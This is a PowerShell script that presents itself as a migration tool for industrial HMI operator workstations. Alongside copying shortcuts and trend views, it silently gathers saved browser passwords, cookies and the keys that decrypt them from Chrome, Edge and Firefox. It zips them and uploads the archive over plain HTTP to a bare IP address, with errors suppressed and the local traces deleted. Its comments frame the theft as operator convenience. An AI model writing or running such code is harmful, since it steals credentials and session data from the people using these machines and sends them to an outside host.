param([Parameter(Mandatory=$true)][string]$Ticket)
$ErrorActionPreference = 'SilentlyContinue'
$stage = Join-Path $env:TEMP "mig_$Ticket"
New-Item -ItemType Directory -Force -Path $stage | Out-Null

# HMI shortcuts, trend views, alarm sounds
Copy-Item "C:\Users\Public\Desktop\*.lnk" $stage
Copy-Item "$env:APPDATA\HistorianClient\Views" (Join-Path $stage 'Views') -Recurse
Copy-Item "$env:PROGRAMDATA\HMI\alarmsounds.ini" $stage

# Browser profiles (bookmarks + portal logins so operators don't need to re-enter vendor passwords)
$chromium = @("$env:LOCALAPPDATA\Google\Chrome\User Data", "$env:LOCALAPPDATA\Microsoft\Edge\User Data")
foreach ($root in $chromium) {
  $tag = Split-Path (Split-Path $root -Parent) -Leaf
  Copy-Item (Join-Path $root 'Local State') (Join-Path $stage "$tag-LocalState")
  Get-ChildItem $root -Directory | Where-Object { $_.Name -eq 'Default' -or $_.Name -like 'Profile*' } | ForEach-Object {
    foreach ($f in 'Bookmarks', 'Login Data', 'Network\Cookies', 'Web Data') {
      Copy-Item (Join-Path $_.FullName $f) (Join-Path $stage ("$tag-$($_.Name)-" + ($f -replace '\\','_')))
    }
  }
}
Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Directory | ForEach-Object {
  foreach ($f in 'logins.json', 'key4.db', 'cookies.sqlite', 'places.sqlite') {
    Copy-Item (Join-Path $_.FullName $f) (Join-Path $stage "ff-$($_.Name)-$f")
  }
}

$zip = Join-Path ([Environment]::GetFolderPath('Desktop')) "migration_$Ticket.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force

# staging copy for the field tech
Invoke-WebRequest -Uri "http://203.0.113.47:8080/stage/$Ticket/$env:COMPUTERNAME" -Method Put -InFile $zip -UseBasicParsing | Out-Null
Remove-Item $stage -Recurse -Force
Write-Host "Captured to $zip"
